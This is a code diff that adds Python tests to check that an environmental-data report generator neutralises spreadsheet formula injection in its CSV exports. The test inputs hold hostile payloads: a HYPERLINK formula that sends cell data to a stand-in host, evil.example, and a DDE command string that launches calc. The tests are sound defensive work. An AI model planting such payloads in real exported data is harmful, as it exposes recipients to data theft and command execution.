@@ -6,6 +6,7 @@ import csv
 import io
 import json
 import re
+from decimal import Decimal
 from html import escape
 from html.parser import HTMLParser
 from pathlib import Path
@@ -251,3 +252,23 @@ def test_an_indicator_table_says_where_its_national_value_comes_from(report: str
     water = section(report, "indicator-surface_water_good_ratio")
     assert "<th>全国数据来源</th>" in water and "2024中国生态环境状况公报" in water
     assert "全国 90.4（虚线，2024中国生态环境状况公报）" in water
+
+
+def test_csv_cells_that_spreadsheets_would_run_as_formulas_are_neutralised_and_numbers_are_not() -> None:
+    hostile = ['=HYPERLINK("http://evil.example/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\0x"]
+    rows = [{"text": t, "value": -4.6} for t in hostile] + [{"text": "江西", "value": Decimal("-1.5")}]
+    got = csv_rows(table("t", rows, [Column("text", "原文"), Column("value", "数值")]))
+    assert got[0] == ["text", "value"]
+    assert [r[0] for r in got[1:]] == ["'" + t for t in hostile] + ["江西"]
+    assert [r[1] for r in got[1:]] == ["-4.6"] * len(hostile) + ["-1.5"]  # numbers stay numbers
+
+
+def test_scraped_text_that_starts_a_formula_reaches_the_report_csv_neutralised(tmp_path: Path) -> None:
+    db = s.build_warehouse(tmp_path / "w.duckdb")
+    engine = open_writer(db)
+    with engine.begin() as conn:
+        conn.exec_driver_sql("UPDATE claims SET quote = '=cmd|''/c calc''!A1'")
+    engine.dispose()
+    claims = section(write_report(db, tmp_path / "r.html").read_text(encoding="utf-8"), "claims")
+    cells = [cell for link in claims.split('<a class="csv"')[1:] for row in csv_rows(link) for cell in row]
+    assert "'=cmd|'/c calc'!A1" in cells and "=cmd|'/c calc'!A1" not in cells
